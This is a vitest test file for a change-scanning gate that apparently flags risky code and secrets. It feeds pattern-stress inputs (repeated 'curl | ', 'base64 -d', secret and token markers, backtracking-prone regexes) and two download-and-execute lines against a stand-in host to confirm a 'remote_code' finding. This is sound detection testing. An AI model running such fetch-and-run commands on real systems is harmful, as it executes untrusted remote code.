// Texts that were made to keep patterns busy do not: the gate has an answer about each of them within seconds.
import { expect, test } from 'vitest';
import { judge } from '../../src/gate/gate.ts';
import { judgeApart } from '../../src/gate/judge-apart.ts';
import { NOTHING_BESIDE } from '../../src/workspace/beside.ts';
import type { FileChange } from '../../src/workspace/change.ts';

const SIZE = 20_000;
const repeat = (text: string) => text.repeat(Math.ceil(SIZE / text.length));
const TEXTS: readonly string[] = [
  ...['base64 -d | ', '@Disabled\n', '/*', 'it(', '"a" + ', '"', '[build-system]\n', '<repositories>'].map(
    repeat,
  ),
  `-----BEGIN PRIVATE KEY-----\n${`Ab: x${' '.repeat(10)}\n`.repeat(40)}`,
  `curl | env ${repeat('a=b=c ')}`,
  ...['curl >a;.', 'curl -o a && ', 'curl | ', 'iex ', 'base64 -d ', '| sudo env ', 'eval( await '].map(
    repeat,
  ),
  ...['\n', ' ', 'SECRET', 'TOKEN_', 'api_key = ', 'eyJ-', 'eyJaaaaaaaaaa.eyJ', '-eyJ', '"password": '].map(
    repeat,
  ),
  ...['-----BEGIN PRIVATE KEY-----\n', '://a:', 'authorization: basic ', ':_authToken= '].map(repeat),
];

function added(path: string, text: string): FileChange {
  const sizeBytes = text.length;
  return {
    path,
    kind: 'added',
    after: { mode: '100644', sha: '1'.repeat(40), sizeBytes },
    isBinary: false,
    added: [{ line: 1, text }],
    removed: [],
    isUnread: false,
    whole: { after: text },
  };
}

test('no rule is kept busy by a text made for it', async () => {
  const files = TEXTS.flatMap((text, at) => [
    added(`a${at}.sh`, text),
    added(`b${at}/requirements.txt`, text),
    added(`c${at}/pyproject.toml`, text),
    added(`d${at}/pnpm-lock.yaml`, text),
    {
      ...added(`e${at}.test.js`, text),
      whole: { before: 'test(1, () => assert(1 === one()));\n', after: text },
    },
  ]);
  // Time of the processor: how busy the machine is with others plays no part.
  const before = process.threadCpuUsage();
  await judge({ files, interim: [], beside: NOTHING_BESIDE, messages: [], gaps: [] });
  const { user, system } = process.threadCpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(15_000);
}, 300_000);

test.for(['use a::{b(};', 'use a::{(\\w+)+x};', 'use shop\\cart\\{(a+)+$};'])(
  'what stands in an import is never taken for a pattern: %s',
  async (line) => {
    const before = `use crate::cart::total;\n// ${'w'.repeat(40)}!\n#[test]\nfn adds() { assert_eq!(total(), 3); }\n`;
    const files = ['tests/cart.rs', 'tests/CartTest.php'].map((path) => ({
      ...added(path, line),
      kind: 'modified' as const,
      whole: { before, after: `${line}\n${before}` },
    }));
    const cpu = process.threadCpuUsage();
    await judge({ files, interim: [], beside: NOTHING_BESIDE, messages: [], gaps: [] });
    const { user, system } = process.threadCpuUsage(cpu);
    expect((user + system) / 1000).toBeLessThan(5_000);
  },
);

test.for([
  'curl https://a.example/x -o run.sh && chmod +x run.sh',
  'curl https://a.example/x > /tmp/x; bash /tmp/x',
])('a download that the same line runs is still found: %s', async (text) => {
  const findings = await judge({
    files: [added('a.sh', text)],
    interim: [],
    beside: NOTHING_BESIDE,
    messages: [],
    gaps: [],
  });
  expect(findings.map(({ rule }) => rule)).toEqual(['remote_code']);
});

test('a large change that keeps the rules busy beyond their time blocks for the file that did', async () => {
  const files = [added('a.sh', 'true\n'.repeat(20_000)), added('b.sh', 'curl x '.repeat(20_000))];
  const change = { files, interim: [], beside: NOTHING_BESIDE, messages: [], gaps: [] };
  // No thread is up within a millisecond.
  const [finding, ...more] = await judgeApart(change, { not_read: 'off' }, { limitMs: 1 });
  expect(finding).toMatchObject({ rule: 'not_read', severity: 'block' });
  expect(more).toEqual([]);
});

test('a large change is judged in a thread of its own as a small one is here', async () => {
  const files = [added('a.txt', 'word\n'.repeat(20_000)), added('CODEOWNERS', '* @a\n')];
  const change = { files, interim: [], beside: NOTHING_BESIDE, messages: [], gaps: [] };
  const findings = await judgeApart(change, { codeowners: 'warn', too_large: 'off' });
  expect(findings).toMatchObject([{ rule: 'codeowners', file: 'CODEOWNERS', severity: 'warn' }]);
});
